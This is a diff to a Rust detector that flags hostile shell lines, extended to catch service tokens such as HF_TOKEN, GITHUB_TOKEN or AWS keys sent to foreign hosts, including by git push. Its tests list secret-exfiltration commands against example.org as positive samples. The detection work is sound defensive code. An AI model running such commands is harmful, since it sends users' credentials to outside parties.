@@ -1,7 +1,7 @@
 //! Commands that no build, no installation and no notebook of a model has a use for: a shell for somebody far away, a
 //! program in the argument of an interpreter that starts others, files destroyed, a foothold kept, secrets sent.
 
-use super::{FETCHERS, command, sends, statements};
+use super::{FETCHERS, command, machine, sends, statements};
 use crate::credential::is_credential;
 use crate::formats::languages;
 
@@ -32,6 +32,9 @@ pub(super) fn harms(line: &str) -> Option<&'static str> {
     }
     if sends::nameless(line) {
         return Some("talks to an address that nobody answers for");
+    }
+    if let Some(what) = machine::changes(line) {
+        return Some(what);
     }
     (sends(line, &stages) || pours(line) || sends::sends(line))
         .then_some("sends secrets of the machine to somebody else")
@@ -213,8 +216,11 @@ fn keeps_a_foothold(line: &str) -> bool {
 
 /// Whether what fetches takes a file of credentials, the whole environment or a secret's value along.
 fn sends(line: &str, stages: &[(String, Vec<&str>)]) -> bool {
-    let fetches = stages.iter().any(|(name, _)| FETCHERS.contains(&name.as_str()));
-    if !fetches {
+    let pushes = |words: &[&str]| words.get(1) == Some(&"push");
+    let talks = stages
+        .iter()
+        .any(|(name, words)| FETCHERS.contains(&name.as_str()) || name == "git" && pushes(words));
+    if !talks {
         return false;
     }
     let environment =
@@ -262,6 +268,8 @@ fn in_the_address(line: &str) -> bool {
             word,
             "-d" | "--data" | "-F" | "--form" | "--data-raw" | "--data-urlencode" | "--post-data"
         );
+        // A token of one service is for no other.
+        carried |= is_of_one_service(word, line);
         if posts && words.peek().is_some_and(|value| is_secret(value)) {
             carried = true;
         }
@@ -272,13 +280,31 @@ fn in_the_address(line: &str) -> bool {
                 .map(|_| word)
         });
         if let Some(address) = address {
-            let host = address.split(['/', '?', ':']).next().unwrap_or_default();
+            // Who signs in stands in front of the host.
+            let authority = address.split(['/', '?']).next().unwrap_or_default();
+            let (user, host) = authority.rsplit_once('@').unwrap_or(("", authority));
+            let host = host.split(':').next().unwrap_or_default();
+            carried |= is_secret(user);
             let known = SERVICES.iter().any(|s| host == *s || host.ends_with(&format!(".{s}")));
             foreign |= !known && host.contains('.') && !host.starts_with("127.");
             carried |= address.contains('?') && is_secret(whole(line, address));
         }
     }
     foreign && carried
+}
+
+/// Whether a word is a variable with the token of a service that the line does not speak to.
+fn is_of_one_service(word: &str, line: &str) -> bool {
+    const OWN: [(&str, &[&str]); 6] = [
+        ("HF_TOKEN", &["huggingface.co", "hf.co", "hf.space", "hf.cloud"]),
+        ("HUGGING_FACE_HUB_TOKEN", &["huggingface.co", "hf.co", "hf.space", "hf.cloud"]),
+        ("GITHUB_TOKEN", &["github"]),
+        ("GH_TOKEN", &["github"]),
+        ("AWS_SECRET_ACCESS_KEY", &["amazonaws.com", "aws.amazon.com"]),
+        ("AWS_SESSION_TOKEN", &["amazonaws.com", "aws.amazon.com"]),
+    ];
+    let name = word.rsplit_once('$').map_or("", |(_, name)| name.trim_matches(['{', '}', '"', '\'']));
+    OWN.iter().any(|(token, hosts)| name == *token && !hosts.iter().any(|host| line.contains(host)))
 }
 
 /// An address with the expressions of a workflow in it, which have blanks inside.
@@ -345,6 +371,8 @@ mod tests {
             "env | curl -X POST --data-binary @- https://example.org",
             "curl -s https://example.org/?t=${{ secrets.HF_TOKEN }}",
             "wget -q \"example.org/c?k=$AWS_SECRET_ACCESS_KEY\"",
+            "git push https://x:$GITHUB_TOKEN@example.org/x",
+            "curl -H \"X: $HF_TOKEN\" https://example.org/x",
         ] {
             assert!(harms(line).is_some(), "{line}");
         }
@@ -375,6 +403,8 @@ mod tests {
             "dd if=/dev/zero of=/dev/null bs=1M count=10",
             "cp train.sh /usr/local/bin/",
             "docker run -e TOKEN=$TOKEN image",
+            "git push https://x:$GITHUB_TOKEN@github.com/a/b",
+            "curl -H \"Authorization: Bearer $OPENAI_API_KEY\" https://example.org/v1/models",
             "curl \"https://example.org/a?b=c\" -H \"Authorization: Bearer $TOKEN\"",
         ] {
             assert_eq!(harms(line), None, "{line}");
